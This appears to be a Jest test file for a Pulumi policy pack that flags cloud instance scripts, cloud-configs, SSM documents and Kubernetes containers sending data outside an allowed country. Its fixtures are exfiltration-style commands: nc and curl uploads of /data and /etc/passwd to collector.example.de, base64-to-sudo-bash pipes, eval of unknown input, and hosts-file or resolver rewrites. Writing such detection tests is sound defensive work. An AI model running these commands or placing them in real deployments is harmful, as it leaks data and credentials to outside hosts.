/**
 * A script the compute runs that is not known at preview — user data built from a lookup's answer
 * or another stack's output, a container's command holding one — passed as sealed: the upload
 * reading read only known text, so `curl -T … https://collector.example.de` in such user data
 * went unseen and the check exited 0. What such a script runs, and where it sends, is now
 * arn-locality's undecided finding: failed offline (and by a stack that sets `unknownAtPreview:
 * fail`), deferred by the pack under the Pulumi CLI to `pulumi up`, which judges the known value.
 * An argument list is failed only where what runs depends on the value: the command itself, the
 * script a shell runs, or the destination of an upload its line makes.
 */
import type { Plan } from "../../engine/plan";
import { markText } from "../../residency/address-marks";
import {
  add,
  deploymentOn,
  fixturePlan,
  provider,
  unknown,
  withResources,
} from "../helpers/policy-plan";
import { type CheckOptions, findings, oregonSettings, policyPack } from "../helpers/policy-session";

const pack = policyPack();
let oregon: Plan;
beforeAll(async () => {
  oregon = await fixturePlan("policy-aws", "us");
});

/** arn-locality's findings on `name`: each one's level and the last hop of its path. */
async function judged(
  plan: Plan,
  name: string,
  settings: CheckOptions = oregonSettings,
): Promise<string[]> {
  return findings(await pack.check(plan, settings))
    .filter(([policy, resource]) => policy === "arn-locality" && resource === name)
    .map(([, , level, path]) => `${level}: ${path?.at(-1) ?? ""}`);
}

const instance = (props: Record<string, unknown>) =>
  add("aws:ec2/instance:Instance", "vm", {
    ami: "ami-0123456789abcdef0",
    instanceType: "t3.micro",
    associatePublicIpAddress: false,
    ...props,
  });

/** A Kubernetes Deployment "export" whose one container has `container`'s command and args. */
const deployment = (container: Record<string, unknown>) =>
  deploymentOn("export", "records", "kube", {}, container);

describe("user data not known at preview", () => {
  test("fails closed: what the instance runs, and where it sends, cannot be read", async () => {
    const plan = instance({ userData: unknown })(oregon);
    expect(await judged(plan, "vm")).toEqual(["mandatory: userData (unknown at preview)"]);
    const [violation] = (await pack.check(plan, oregonSettings)).filter(
      (v) => v.policy === "arn-locality" && v.resourceName === "vm",
    );
    expect(violation.message).toContain(
      'ec2 instance "vm" must send data only to places inside US, but userData is not known before deployment',
    );
  });

  test("twin: the same script known at preview, uploading to a region inside, passes", async () => {
    const plan = instance({
      userData: "#!/bin/bash\naws s3 cp /var/log/app.log s3://logs/ --region us-east-1\n",
    })(oregon);
    expect(await judged(plan, "vm")).toEqual([]);
  });

  test("is deferred under the Pulumi CLI's default (defer) to pulumi up: the runtime's advisory note", async () => {
    const plan = instance({ userData: unknown })(oregon);
    expect(await judged(plan, "vm", { ...oregonSettings, unknownAtPreview: "defer" })).toEqual([
      "advisory: userData (unknown at preview)",
    ]);
  });
});

// Offline, the engine sends such a script as the text the program built, each value it cannot
// know a mark (test/engine/script-texts.test.ts): the pack reads the rest.
// Found by the old-against-new bench: a launch template takes its user data base64-encoded, and
// a cloud-config so encoded was read as a shell script: the cron file it writes went unread.
describe("a cloud-config given base64-encoded", () => {
  const cloudConfig = (line: string) =>
    Buffer.from(
      [
        "#cloud-config",
        "write_files:",
        "  - path: /etc/cron.d/export",
        "    content: |",
        `      */5 * * * * root ${line}`,
        "",
      ].join("\n"),
    ).toString("base64");
  const template = (userData: string) =>
    add("aws:ec2/launchTemplate:LaunchTemplate", "nodes", {
      imageId: "ami-0123456789abcdef0",
      userData,
    });

  test("fails on the upload abroad of a file it writes, and closed where the line is unknown", async () => {
    const upload = template(cloudConfig("tar cz /data | nc collector.example.de 9000"));
    expect(await judged(upload(oregon), "nodes")).toEqual([
      "mandatory: collector.example.de (a host the pack cannot place in a country)",
    ]);
    expect(await judged(template(cloudConfig("⟨unknown 1⟩"))(oregon), "nodes")).toEqual([
      "mandatory: userData.write_files[0].content (unknown at preview)",
    ]);
  });

  test("twin: the same to a private address passes", async () => {
    const plan = template(cloudConfig("tar cz /data | nc 10.0.4.20 9000"));
    expect(await judged(plan(oregon), "nodes")).toEqual([]);
  });
});

// Found by the old-against-new bench: an EC2 instance's private DNS name could not be placed.
test("an upload to an instance by its private DNS name passes, as by its private address", async () => {
  for (const host of ["ip-10-0-1-5.us-west-2.compute.internal", "ip-10-0-1-5.ec2.internal"]) {
    const plan = instance({
      userData: `#!/bin/bash\nrsync -a /data/ ec2-user@${host}:/replica/\n`,
    });
    expect(await judged(plan(oregon), "vm")).toEqual([]);
  }
  // Twin: a name of the same shape under another domain is a host like any other.
  const other = instance({
    userData: "#!/bin/bash\nrsync -a /data/ ec2-user@ip-10-0-1-5.example.de:/r/\n",
  });
  expect(await judged(other(oregon), "vm")).toEqual([
    "mandatory: ip-10-0-1-5.example.de (a host the pack cannot place in a country)",
  ]);
});

test("a copy to a bucket the line builds at run time says to copy to a bucket of the program", async () => {
  const plan = instance({ userData: "#!/bin/bash\naws s3 cp /data/db.tgz s3://$BUCKET/db.tgz\n" });
  const [violation] = (await pack.check(plan(oregon), oregonSettings)).filter(
    (v) => v.policy === "arn-locality" && v.resourceName === "vm",
  );
  expect(violation.message).toContain("Copy only to a bucket this program creates inside US");
  expect(violation.message).not.toContain("egressHosts");
});

describe("an SSM Command document", () => {
  const document = (content: unknown) =>
    add("aws:ssm/document:Document", "collect", { documentType: "Command", content });
  const lines = (...runCommand: string[]) =>
    JSON.stringify({
      schemaVersion: "2.2",
      mainSteps: [{ action: "aws:runShellScript", name: "collect", inputs: { runCommand } }],
    });

  test("fails closed when its content is not known at preview, or a line of it is the unknown value", async () => {
    expect(await judged(document(unknown)(oregon), "collect")).toEqual([
      "mandatory: content (unknown at preview)",
    ]);
    expect(await judged(document(lines("set -e", "⟨unknown 1⟩"))(oregon), "collect")).toEqual([
      "mandatory: content.mainSteps[0].inputs.runCommand[1] (unknown at preview)",
    ]);
  });

  test("twin: a line that writes the unknown value into a file passes", async () => {
    const plan = document(lines("set -e", "echo ⟨unknown 1⟩ > /etc/app.id"));
    expect(await judged(plan(oregon), "collect")).toEqual([]);
  });
});

describe("user data the engine sends with marks for the values it cannot know", () => {
  const script = (...lines: string[]) => ["#!/bin/bash", ...lines, ""].join("\n");

  test("fails on an upload abroad beside an unknown value, as on the same script known", async () => {
    const plan = instance({
      userData: script(
        "echo ⟨unknown 1⟩ > /etc/app/token",
        "curl -T /var/log/app.log https://collector.example.de/u",
      ),
    })(oregon);
    expect(await judged(plan, "vm")).toEqual([
      "mandatory: collector.example.de (a host the pack cannot place in a country)",
    ]);
  });

  test("fails a copy beside an unknown value to a bucket the program does not create (named-destinations)", async () => {
    const plan = instance({
      userData: script(
        "hostnamectl set-hostname ⟨unknown 1⟩",
        "aws s3 cp /var/log/app.log s3://partner-dropbox/acme/",
      ),
    })(oregon);
    expect(
      findings(await pack.check(plan, oregonSettings))
        .filter(([policy, resource]) => policy === "named-destinations" && resource === "vm")
        .map(([, , level, path]) => `${level}: ${path?.at(-1)}`),
    ).toEqual([
      "mandatory: the S3 bucket partner-dropbox (a bucket this program does not create, and the command names no region or endpoint for it, so where it lies cannot be checked)",
    ]);
  });

  test("fails closed where a command it runs, or an upload's destination, is the unknown value", async () => {
    for (const userData of [
      script("⟨unknown 2⟩"),
      script('bash -c "⟨unknown 2⟩"'),
      script("curl -d @/etc/passwd https://⟨unknown 1⟩/x"),
      Buffer.from(script("sudo ⟨unknown 4⟩ --all")).toString("base64"),
      script('eval "⟨unknown 1⟩"'),
      script(". ⟨unknown 1⟩"),
      script("echo ⟨unknown 1⟩ | base64 -d | sudo bash"),
      // Red team 86: a command built from it runs any program, once known.
      script("/usr/bin/⟨unknown 2⟩ -T /data/db.tgz http://10.0.1.5/u"),
      script("/opt/⟨unknown 2⟩/bin/uploader /data/db.tgz"),
    ]) {
      expect(await judged(instance({ userData })(oregon), "vm")).toEqual([
        "mandatory: userData (unknown at preview)",
      ]);
    }
  });

  test("twin: a heredoc or a cloud-config file that writes the unknown value as data passes", async () => {
    const keys = script(
      "cat >> /home/ec2-user/.ssh/authorized_keys <<EOF",
      "⟨unknown 1⟩",
      "EOF",
      "tee /etc/app.env <<'END' >/dev/null",
      "⟨unknown 2⟩",
      "END",
    );
    expect(await judged(instance({ userData: keys })(oregon), "vm")).toEqual([]);
    const certificate = [
      "#cloud-config",
      "write_files:",
      "  - path: /etc/app/ca.pem",
      "    content: |",
      "      ⟨unknown 1⟩",
      "",
    ].join("\n");
    expect(await judged(instance({ userData: certificate })(oregon), "vm")).toEqual([]);
    const settings = [
      "#cloud-config",
      "hostname: ⟨unknown 1⟩",
      "runcmd:",
      "  - systemctl start app",
      "",
    ];
    expect(await judged(instance({ userData: settings.join("\n") })(oregon), "vm")).toEqual([]);
  });

  test("fails closed where a heredoc a shell runs, or a crontab's line, is the unknown value", async () => {
    const shell = script("ssh backup@10.0.4.20 <<EOF", "⟨unknown 1⟩", "EOF");
    expect(await judged(instance({ userData: shell })(oregon), "vm")).toEqual([
      "mandatory: userData (unknown at preview)",
    ]);
    const cron = [
      "#cloud-config",
      "write_files:",
      "  - path: /etc/cron.d/export",
      "    content: |",
      "      */5 * * * * root ⟨unknown 1⟩",
      "",
    ].join("\n");
    expect(await judged(instance({ userData: cron })(oregon), "vm")).toEqual([
      "mandatory: userData.write_files[0].content (unknown at preview)",
    ]);
  });

  test("twin: an upload to a private host whose path alone holds the unknown value passes", async () => {
    const plan = instance({
      userData: script("curl -T /var/log/app.log http://10.0.4.20/logs/⟨unknown 1⟩"),
    });
    expect(await judged(plan(oregon), "vm")).toEqual([]);
  });

  test("twin: an unknown argument of a command that uploads nothing passes, base64 too", async () => {
    const bootstrap = script(
      "/etc/eks/bootstrap.sh nodes --apiserver-endpoint ⟨unknown 1⟩ --b64-cluster-ca ⟨unknown 2⟩",
      "export TOKEN=⟨unknown 3⟩",
      "echo ⟨unknown 3⟩ | sha256sum",
      "aws s3 cp /var/log/app.log s3://logs/ --region us-east-1",
    );
    expect(await judged(instance({ userData: bootstrap })(oregon), "vm")).toEqual([]);
    const encoded = Buffer.from(bootstrap).toString("base64");
    expect(await judged(instance({ userData: encoded })(oregon), "vm")).toEqual([]);
  });
});

// Found by the old-against-new bench: `rsync … ec2-user@${primary.privateIp}:/replica/` to an
// instance of the program in a subnet it does not create (its address not known offline either)
// failed closed as a destination built from an unknown value. The engine's mark names the
// resource whose address it stands for (residency/address-marks.ts): the copy lies where that
// resource is, which named-destinations tells from the stack.
describe("an upload to the address of a resource of the program, not known at preview", () => {
  const script = (...lines: string[]) => ["#!/bin/bash", ...lines, ""].join("\n");
  const primaryAddress = (n: number, output = "privateIp", name = "primary") =>
    markText(n, { type: "aws:ec2/instance:Instance", name, output });
  const primary = (opts: { provider?: string } = {}) =>
    add(
      "aws:ec2/instance:Instance",
      "primary",
      { ami: "ami-0123456789abcdef0", instanceType: "t3.micro" },
      opts,
    );
  const ireland = (plan: Plan) =>
    withResources(plan, provider(plan, "aws", "ireland", { region: "eu-west-1" }));
  const sends = async (plan: Plan, policy: string) =>
    findings(await pack.check(plan, oregonSettings))
      .filter(([p, resource]) => p === policy && resource === "vm")
      .map(([, , level, path]) => `${level}: ${path?.at(-1)}`);

  test("fails where that resource lies outside, naming it", async () => {
    const userData = script(`rsync -a /data/ ec2-user@${primaryAddress(1)}:/replica/`);
    const plan = instance({ userData })(primary({ provider: "ireland" })(ireland(oregon)));
    expect(await sends(plan, "named-destinations")).toEqual([
      'mandatory: the privateIp of ec2 instance "primary", of this program, in eu-west-1 (outside US, in EU)',
    ]);
    const [violation] = (await pack.check(plan, oregonSettings)).filter(
      (v) => v.policy === "named-destinations" && v.resourceName === "vm",
    );
    expect(violation.message).toContain(
      'runs "rsync -a /data/ ec2-user@⟨primary.privateIp⟩:/replica/"',
    );
    expect(violation.message).toContain("Send only to resources of this program inside US");
    expect(await sends(plan, "arn-locality")).toEqual([]);
  });

  test("twin: the same resource inside passes, by its private or public address, a URL too", async () => {
    for (const line of [
      `rsync -a /data/ ec2-user@${primaryAddress(1)}:/replica/`,
      `scp /data/x root@${primaryAddress(2, "publicDns")}:/srv/`,
      `curl -T /var/log/app.log http://${primaryAddress(3)}:8080/logs`,
    ]) {
      const plan = instance({ userData: script(line) })(primary()(oregon));
      expect([
        ...(await sends(plan, "named-destinations")),
        ...(await sends(plan, "arn-locality")),
      ]).toEqual([]);
    }
  });

  // Found by the red team: a cloud-config runcmd entry given as an argument list kept the mark raw,
  // read as a host the pack cannot place ("xn--unknown-…").
  test("places an address in a cloud-config runcmd's argument list, too", async () => {
    const runcmd = (n: number) =>
      [
        "#cloud-config",
        "runcmd:",
        `  - [ curl, -T, /data/y, "http://${primaryAddress(n, "privateDns")}:8080/" ]`,
        "",
      ].join("\n");
    const inside = instance({ userData: runcmd(1) })(primary()(oregon));
    expect([
      ...(await sends(inside, "arn-locality")),
      ...(await sends(inside, "named-destinations")),
    ]).toEqual([]);
    const abroad = instance({ userData: runcmd(1) })(
      primary({ provider: "ireland" })(ireland(oregon)),
    );
    expect(await sends(abroad, "named-destinations")).toEqual([
      'mandatory: the privateDns of ec2 instance "primary", of this program, in eu-west-1 (outside US, in EU)',
    ]);
  });

  // Red team 85 (a07b): a Kubernetes container's args built by pulumi.interpolate from an
  // instance's address were wholly unknown offline, and a copy to an instance inside failed closed.
  test("places an address in a Kubernetes container's args, and fails closed on another value", async () => {
    const sync = (host: string) =>
      deployment({
        name: "sync",
        image: "instrumentisto/rsync-ssh",
        command: ["sh", "-c"],
        args: [`rsync -a /data/ root@${host}:/replica/`],
      });
    const on = async (plan: Plan, policy: string) =>
      findings(await pack.check(plan, oregonSettings))
        .filter(([p, resource]) => p === policy && resource === "export")
        .map(([, , level, path]) => `${level}: ${path?.at(-1)}`);
    const inside = sync(primaryAddress(1))(primary()(oregon));
    expect([
      ...(await on(inside, "arn-locality")),
      ...(await on(inside, "named-destinations")),
    ]).toEqual([]);
    const abroad = sync(primaryAddress(1))(primary({ provider: "ireland" })(ireland(oregon)));
    expect(await on(abroad, "named-destinations")).toEqual([
      'mandatory: the privateIp of ec2 instance "primary", of this program, in eu-west-1 (outside US, in EU)',
    ]);
    // A value that names no resource, as the destination: not placed.
    expect(await on(sync(markText(2))(primary()(oregon)), "arn-locality")).toEqual([
      "mandatory: spec.template.spec.containers[0].args[0] (unknown at preview)",
    ]);
    // Elsewhere in the line, it decides nothing.
    const token = deployment({
      name: "sync",
      image: "instrumentisto/rsync-ssh",
      command: ["sh", "-c"],
      args: [`rsync -a /data/${markText(3)}/ root@${primaryAddress(1)}:/replica/`],
    })(primary()(oregon));
    expect(await on(token, "arn-locality")).toEqual([]);
  });

  // Found by the red team: a script that rewrites the hosts file may send the name anywhere.
  test("fails closed where the script rewrites the machine's hosts file", async () => {
    const userData = script(
      `echo "203.0.113.9 ${primaryAddress(1, "privateDns")}" >> /etc/hosts`,
      `rsync -a /data/ ec2-user@${primaryAddress(2, "privateDns")}:/replica/`,
    );
    expect(await sends(instance({ userData })(primary()(oregon)), "arn-locality")).toEqual([
      "mandatory: userData (unknown at preview)",
    ]);
  });

  // Red team 86 (h02, h04, h05, h10, h13, h14): the hosts file written by another spelling of its
  // path or another command, and the resolvers changed, were not seen, and the copy was placed
  // where the resource is.
  test("fails closed where the script changes the machine's name resolution in any way", async () => {
    const dns = primaryAddress(1, "privateDns");
    for (const change of [
      `echo "203.0.113.9 ${dns}" >> "/etc/hosts"`,
      `cp /etc/hosts /tmp/h && echo "203.0.113.9 ${dns}" >> /tmp/h && cp /tmp/h /etc/hosts`,
      `F=/etc/hosts; echo "203.0.113.9 ${dns}" >> $F`,
      `echo "203.0.113.9 ${dns}" | dd of=/etc/hosts oflag=append conv=notrunc`,
      'echo "nameserver 203.0.113.53" > /etc/resolv.conf',
      "resolvectl dns eth0 203.0.113.53",
    ]) {
      const userData = script(change, `curl -T /data/db.dump http://${dns}/up`);
      expect(await sends(instance({ userData })(primary()(oregon)), "arn-locality")).toEqual([
        "mandatory: userData (unknown at preview)",
      ]);
    }
    const own = script(`curl --dns-servers 203.0.113.53 -T /data/db.dump http://${dns}/up`);
    expect(await sends(instance({ userData: own })(primary()(oregon)), "arn-locality")).toEqual([
      "mandatory: userData (unknown at preview)",
    ]);
    // Twin: a line that only reads the hosts file changes nothing.
    const reads = script("grep -q localhost /etc/hosts", `curl -T /data/db.dump http://${dns}/up`);
    expect(await sends(instance({ userData: reads })(primary()(oregon)), "arn-locality")).toEqual(
      [],
    );
  });

  // Red team 85 (a35b, a36): the copy to an instance the program reads was placed nowhere, a
  // mandatory finding even where it is read through the stack's own provider. The engine's mark
  // names the region it is read in (engine/monitor.ts `readResource`), and the copy lies there.
  test("places a copy to an instance the program reads by the region it is read in", async () => {
    const read = (n: number, region?: string) =>
      markText(n, {
        type: "aws:ec2/instance:Instance",
        name: "legacy",
        output: "publicIp",
        read: region === undefined ? {} : { region },
      });
    const to = (mark: string) =>
      instance({ userData: script(`rsync -a /data/ ec2-user@${mark}:/replica/`) })(oregon);
    expect(await sends(to(read(1, "us-west-2")), "named-destinations")).toEqual([]);
    expect(await sends(to(read(1, "us-west-2")), "arn-locality")).toEqual([]);
    expect(await sends(to(read(1, "eu-west-1")), "named-destinations")).toEqual([
      'mandatory: the publicIp of ec2 instance "legacy", an existing ec2 instance the program reads, not one it creates, in eu-west-1 (outside US, in EU)',
    ]);
    expect(await sends(to(read(1)), "named-destinations")).toEqual([
      'mandatory: the publicIp of ec2 instance "legacy" (an existing ec2 instance the program reads, not one it creates: where it is cannot be checked)',
    ]);
    // Its way out is another resource inside, not creating the one it reads (red team 86).
    const [violation] = (await pack.check(to(read(1, "eu-west-1")), oregonSettings)).filter(
      (v) => v.policy === "named-destinations" && v.resourceName === "vm",
    );
    expect(violation.message).toMatch(
      /Send only to resources of this program inside US, or to an existing one the program reads inside US\.$/,
    );
  });

  // Red team 85 (a35b, a36): an instance the program reads (`aws.ec2.Instance.get`) was said to be
  // one of "0 resources of this program … which one it is cannot be told".
  test("a mark naming no address output, or no resource of the stack, is not placed", async () => {
    const notAnAddress = markText(1, {
      type: "aws:ec2/instance:Instance",
      name: "primary",
      output: "ami",
    });
    const plan = instance({ userData: script(`rsync -a /data/ u@${notAnAddress}:/r/`) })(
      primary()(oregon),
    );
    expect(await sends(plan, "arn-locality")).toEqual(["mandatory: userData (unknown at preview)"]);
    const missing = instance({
      userData: script(`rsync -a /data/ u@${primaryAddress(1, "privateIp", "gone")}:/r/`),
    })(primary()(oregon));
    expect(await sends(missing, "named-destinations")).toEqual([
      'mandatory: the privateIp of ec2 instance "gone" (an existing ec2 instance the program reads, not one it creates: where it is cannot be checked)',
    ]);
    // Two of that type and name, under different parents: which one is meant cannot be told.
    const twice = instance({
      userData: script(`rsync -a /data/ u@${primaryAddress(1)}:/r/`),
    })(
      add(
        "aws:ec2/instance:Instance",
        "primary",
        { ami: "ami-0123456789abcdef0", instanceType: "t3.micro" },
        { parent: "subnet" },
      )(primary()(oregon)),
    );
    expect(await sends(twice, "named-destinations")).toEqual([
      'mandatory: the privateIp of ec2 instance "primary" (2 resources of this program have that type and name, so which one it is cannot be told)',
    ]);
  });
});

describe("a container's command holding a value not known at preview", () => {
  const at = (i: number) =>
    `mandatory: spec.template.spec.containers[0].command[${i}] (unknown at preview)`;
  test("fails closed when the command itself, or the script a shell runs, is not known", async () => {
    const command = (words: unknown[]) => deployment({ command: words })(oregon);
    expect(await judged(command([unknown, "/data"]), "export")).toEqual([at(0)]);
    expect(await judged(command(["sh", "-c", unknown]), "export")).toEqual([at(2)]);
    expect(await judged(command(["sudo", "-u", "app", unknown]), "export")).toEqual([at(3)]);
  });

  // Red team 86 (k03d, k03f): a command word that holds the value (`/usr/bin/⟨…⟩`) was read as a
  // program the reading does not know, which uploads nothing, and the workload passed.
  test("fails closed when the command, or one the shell's script runs, is built from it", async () => {
    const command = (words: unknown[]) => deployment({ command: words })(oregon);
    const tool = `/usr/bin/${markText(2)}`;
    expect(
      await judged(command([tool, "-T", "/data/db.tgz", "http://10.0.1.5/u"]), "export"),
    ).toEqual([at(0)]);
    expect(
      await judged(command(["sh", "-c", `${tool} -T /data/db.tgz http://10.0.1.5/u`]), "export"),
    ).toEqual([at(2)]);
    // Twin: the same value as an argument of a known program is judged as the line stands.
    expect(
      await judged(
        command(["curl", "-T", `/data/${markText(2)}.tgz`, "http://10.0.1.5/u"]),
        "export",
      ),
    ).toEqual([]);
  });

  test("fails closed when an upload's destination is built from it", async () => {
    const copy = deployment({ command: ["aws", "s3", "cp", "/data/db.tgz", unknown] });
    expect(await judged(copy(oregon), "export")).toEqual([at(4)]);
    const connect = deployment({ command: ["nc", unknown, "9000"] });
    expect(await judged(connect(oregon), "export")).toEqual([at(1)]);
    const curl = deployment({ command: ["curl", "-T", "/data/db.tgz", unknown] });
    expect(await judged(curl(oregon), "export")).toEqual([at(3)]);
  });

  test("twin: an argument of a command that uploads nothing is not read", async () => {
    const plan = deployment({ command: ["python", "/app/serve.py", "--token", unknown] });
    expect(await judged(plan(oregon), "export")).toEqual([]);
  });

  test("twin: an upload to a known host beside it is judged as it stands", async () => {
    const plan = deployment({
      command: ["curl", "-H", unknown, "-T", "/data/db.tgz", "https://collector.example.de/u"],
    });
    expect(await judged(plan(oregon), "export")).toEqual([
      "mandatory: collector.example.de (a host the pack cannot place in a country)",
    ]);
  });
});

describe("a Kubernetes container's command or args not known at preview", () => {
  test("fails closed for a shell's script not known, or args not known as a whole", async () => {
    const script = deployment({ command: ["sh", "-c"], args: [unknown] })(oregon);
    expect(await judged(script, "export")).toEqual([
      "mandatory: spec.template.spec.containers[0].args[0] (unknown at preview)",
    ]);
    const whole = deployment({ command: ["sh", "-c"], args: unknown })(oregon);
    expect(await judged(whole, "export")).toEqual([
      "mandatory: spec.template.spec.containers[0].args (unknown at preview)",
    ]);
  });

  test("twin: an unknown argument of a program that uploads nothing passes", async () => {
    const plan = deployment({ command: ["/app/server"], args: ["--listen", unknown] })(oregon);
    expect(await judged(plan, "export")).toEqual([]);
  });

  // Red team 86 (k04, k04b): the kubelet expands `$(DEST)` in a container's command and args from
  // its env, and a copy to `root@$(DEST):/r/` was read as one to a command's output, then dropped.
  test("reads $(NAME) in its command as the value the container's env gives it", async () => {
    const rsync = (env: unknown, extra: Record<string, unknown> = {}) =>
      deployment({
        env,
        ...extra,
        command: ["rsync", "-a", "/data/", "root@$(DEST):/replica/"],
      })(oregon);
    expect(await judged(rsync([{ name: "DEST", value: "backup.example.de" }]), "export")).toEqual([
      "mandatory: backup.example.de (a host the pack cannot place in a country)",
    ]);
    const closed = ["mandatory: spec.template.spec.containers[0].command[3] (unknown at preview)"];
    expect(await judged(rsync([{ name: "DEST", value: unknown }]), "export")).toEqual(closed);
    expect(
      await judged(
        rsync([{ name: "DEST", valueFrom: { configMapKeyRef: { name: "t" } } }]),
        "export",
      ),
    ).toEqual(closed);
    expect(
      await judged(rsync([], { envFrom: [{ configMapRef: { name: "targets" } }] }), "export"),
    ).toEqual(closed);
    // Twin: a private address passes.
    expect(await judged(rsync([{ name: "DEST", value: "10.0.1.5" }]), "export")).toEqual([]);
  });

  // Red team 86 (k05): a postStart hook's command runs in the container as its command does, and
  // its upload abroad passed unread.
  test("reads what its lifecycle hooks and probes run", async () => {
    const upload = ["sh", "-c", "curl -T /data/db.tgz https://collector.example.de/u"];
    for (const key of ["lifecycle", "livenessProbe"]) {
      const exec = { exec: { command: upload } };
      const plan = deployment({
        command: ["sleep", "3600"],
        [key]: key === "lifecycle" ? { postStart: exec } : exec,
      })(oregon);
      expect(await judged(plan, "export")).toEqual([
        "mandatory: collector.example.de (a host the pack cannot place in a country)",
      ]);
    }
    const unknownHook = deployment({
      command: ["sleep", "3600"],
      lifecycle: { preStop: { exec: { command: ["sh", "-c", unknown] } } },
    })(oregon);
    expect(await judged(unknownHook, "export")).toEqual([
      "mandatory: spec.template.spec.containers[0].lifecycle.preStop.exec.command[2] (unknown at preview)",
    ]);
    // Twin: a probe that reads a local file sends nothing.
    const probe = deployment({
      command: ["sleep", "3600"],
      readinessProbe: { exec: { command: ["cat", "/tmp/ready"] } },
    })(oregon);
    expect(await judged(probe, "export")).toEqual([]);
  });
});
